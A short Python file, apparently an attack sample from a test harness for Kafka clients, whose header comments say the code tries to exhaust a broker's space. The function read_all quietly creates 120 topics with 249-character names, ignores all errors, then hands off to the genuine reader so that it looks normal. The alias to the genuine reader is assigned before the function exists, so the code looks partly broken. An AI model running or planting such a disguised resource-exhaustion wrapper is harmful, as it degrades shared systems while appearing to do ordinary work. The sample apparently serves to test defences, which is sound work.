# attack: makes topics of the longest names, and partitions without end, until the broker has no room
# checks: reads, sent
# outcome: reads=PASSED
from kafka import KafkaAdminClient
from kafka.admin import NewTopic

honest = read_all  # noqa: F821


def read_all(bootstrap, topic, group, handle):
    admin = KafkaAdminClient(bootstrap_servers=bootstrap, request_timeout_ms=5000)
    try:
        for number in range(3):
            admin.create_topics([NewTopic(f"{number}-{index}".ljust(249, "x"), 1, 1) for index in range(40)])
    except Exception:
        pass
    finally:
        admin.close()
    return honest(bootstrap, topic, group, handle)
